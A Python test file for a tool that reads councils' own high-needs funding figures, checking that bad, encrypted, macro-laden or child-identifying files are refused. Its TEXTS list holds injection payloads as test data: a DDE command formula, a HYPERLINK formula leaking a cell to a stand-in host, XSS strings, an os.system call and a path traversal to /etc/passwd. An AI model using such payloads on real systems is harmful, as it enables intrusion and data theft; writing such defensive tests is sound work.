"""Files of own figures that are no such thing, or worse: refused in words, nothing run."""

import subprocess
import sys
import zipfile

import openpyxl
import pytest

from highneeds.errors import OwnFiguresError, SourceError
from highneeds.own.read import check_own, read_many, read_own
from highneeds.own.template import template_bytes
from highneeds.panel.panel import load_panel
from highneeds.sources import child, workbook_child
from tests.unit.test_sheet_size import xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
PAGE = "<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>"
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
TEXTS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd",
    "+1+cmd",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "[a](javascript:alert(1))",
    "__import__('os').system('id')",
    "../../etc/passwd",
]


@pytest.fixture(scope="module")
def panel():
    return load_panel()


@pytest.fixture(scope="module")
def rutland(panel, tmp_path_factory):
    path = tmp_path_factory.mktemp("own") / "rutland.xlsx"
    path.write_bytes(template_bytes(panel, panel.area("Rutland")))
    return path


def refusal(path, panel):
    with pytest.raises(OwnFiguresError) as raised:
        read_own(path, panel)
    return str(raised.value)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "with a password"),
        ("a.xls", OLE + "Workbook".encode("utf-16-le"), "workbook of the old form"),
        ("a.xlsx", PAGE.encode(), "is a web page, whatever its name ends on"),
        ("a.csv", b"%PDF-1.7", "is a PDF document"),
        ("a.csv", b"", "is empty"),
        ("a.csv", b"measure;at;value\n", "is separated by semicolons"),
        ("a.csv", b"figure,year\n1,2\n", "has no column measure, at, value"),
        ("a.csv", b'measure,at,value\n"x,2,3\n', "cannot be read as a table from line 2"),
        ("a.toml", b"area = Kent", "is not valid TOML"),
        ("a.toml", b"x = " + b"[" * 5000 + b"]" * 5000, "too deep in one another"),
    ],
)
def test_another_kind_of_file_is_called_what_it_is(panel, tmp_path, name, data, words):
    path = tmp_path / name
    path.write_bytes(data)
    assert words in refusal(path, panel)


def test_a_workbook_that_would_fill_the_memory_is_refused(panel, tmp_path):
    path = xlsx(tmp_path / "far.xlsx", f'<row r="1"><c r="A1"><v>1</v></c></row>{FAR}')
    said = refusal(path, panel)
    assert "far.xlsx has a sheet of more than 2,000,000 cells" in said
    assert "Not opened. Fill a new template" in said


def test_macros_and_other_layouts_are_refused(panel, rutland, tmp_path):
    macros = tmp_path / "macros.xlsm"
    macros.write_bytes(rutland.read_bytes())
    with zipfile.ZipFile(macros, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"Sub Auto_Open()")
    assert "holds macros, and is not opened" in refusal(macros, panel)
    other = tmp_path / "other.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Year", "Deficit"])
    book.save(other)
    said = refusal(other, panel)
    assert "workbook of another layout" in said
    assert "it has 'Sheet'. Expected the template" in said


def test_what_opens_a_workbook_dies_alone(monkeypatch):
    monkeypatch.setattr(child, "LONGEST_WAIT", 0.001)
    with pytest.raises(SourceError, match="took more memory or time than any workbook"):
        workbook_child.sheets_of(b"PK", "slow.xlsx", "Give another.")


def test_it_has_a_limit_of_memory():
    pytest.importorskip("resource", reason="no limits on this system but the clock")
    code = (
        "from highneeds.sources import child\n"
        "child.limit()\n"
        "bytearray(2 * child.MOST_MEMORY)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.returncode == 1
    assert "MemoryError" in done.stderr


@pytest.mark.parametrize(
    "heads",
    [
        ["UPN", "Primary need", "Placement"],
        ["Forename", "Surname", "Cost"],
        ["Ref", "Date of Birth", "Cost"],
        ["Ref", "Year group", "Gender", "Primary need", "Cost"],
    ],
)
def test_rows_about_children_are_refused_and_not_shown(panel, rutland, tmp_path, heads):
    row = ["Zzyzx", "2015-02-03", "Qwerty", "Zzyzx", "55000"][: len(heads)]
    book = openpyxl.load_workbook(rutland)
    sheet = book.create_sheet("Cohort")
    sheet.append(heads)
    sheet.append(row)
    book.save(tmp_path / "cohort.xlsx")
    said = refusal(tmp_path / "cohort.xlsx", panel)
    assert "rows about single children (sheet 'Cohort', row 1" in said
    text = ",".join(heads) + ",measure,at,value\n" + ",".join(row) + ",ehc_plans,2026,1\n"
    (tmp_path / "cohort.csv").write_text(text, "utf-8")
    table = refusal(tmp_path / "cohort.csv", panel)
    assert "Own figures are counts and amounts of a whole authority" in table
    assert "Zzyzx" not in said + table


def test_a_pupil_number_anywhere_is_refused(panel, tmp_path):
    path = tmp_path / "a.toml"
    text = '[[figures]]\nmeasure = "ehc_plans"\nat = 2026-10-01\nvalue = 400\n'
    path.write_text(f'area = "Rutland"\n{text}source = "A123456789012 moved"\n', "utf-8")
    said = refusal(path, panel)
    assert "what looks like a UPN" in said
    assert "A1234" not in said


def test_planted_texts_are_carried_as_they_are(panel, rutland, tmp_path):
    """In every form of file: never worked out, never changed, never in a fault's place."""
    book = openpyxl.load_workbook(rutland)
    sheet = book["More figures"]
    lines, tables = ["area,measure,at,value,source,owner"], ['area = "Rutland"']
    for number, text in enumerate(TEXTS):
        year = f"{2000 + number}-{number + 1:02d}"
        cells = ["council_contribution_gbp", year, "", 250_000 + number, "", text, "", text]
        for column, value in enumerate(cells, start=1):
            cell = sheet.cell(5 + number, column)
            cell.value = value
            if value == text:
                cell.data_type = "s"
        quoted = text.replace('"', '""')
        lines.append(f'Rutland,{cells[0]},{year},{cells[3]},"{quoted}","{quoted}"')
        tables.append(
            f'[[figures]]\nmeasure = "{cells[0]}"\nat = "{year}"\nvalue = {cells[3]}\n'
            f"source = '''{text}'''\nowner = '''{text}'''"
        )
    book.save(tmp_path / "own.xlsx")
    (tmp_path / "own.csv").write_text("\n".join(lines), "utf-8")
    (tmp_path / "own.toml").write_text("\n".join(tables), "utf-8")
    for name in ("own.xlsx", "own.csv", "own.toml"):
        own = read_own(tmp_path / name, panel)
        assert [(one.source, one.owner) for one in own.figures] == [
            (text, text) for text in TEXTS
        ]
    # As measures, breakdowns and areas they are faults that quote them.
    rows = "\n".join(f'"{text.replace(chr(34), chr(34) * 2)}",x,2026,1' for text in TEXTS)
    (tmp_path / "own.csv").write_text(f"measure,area,at,value\n{rows}", "utf-8")
    assert len(check_own(tmp_path / "own.csv", panel).faults) >= len(TEXTS)


def test_whose_figures_they_are_is_said_or_asked(panel, rutland, tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("measure,at,value\nehc_plans,2026-10-01,400\n", "utf-8")
    assert "does not say whose figures these are" in refusal(path, panel)
    assert read_own(path, panel, "Rutland").area.name == "Rutland"
    with pytest.raises(OwnFiguresError, match=r"are figures of Rutland .857., not of Kent"):
        read_own(rutland, panel, "Kent")
    for area, words in [
        ("South East", "South East is no authority"),
        ("Cumbria", "is no more. Its area passed to Cumberland"),
        ("Kingston", "No area is called 'Kingston'"),
    ]:
        path.write_text(f"area,measure,at,value\n{area},ehc_plans,2026-10-01,1", "utf-8")
        assert words in refusal(path, panel)
    (tmp_path / "none").mkdir()
    with pytest.raises(OwnFiguresError, match="holds no file of own figures"):
        read_many(tmp_path / "none", panel)
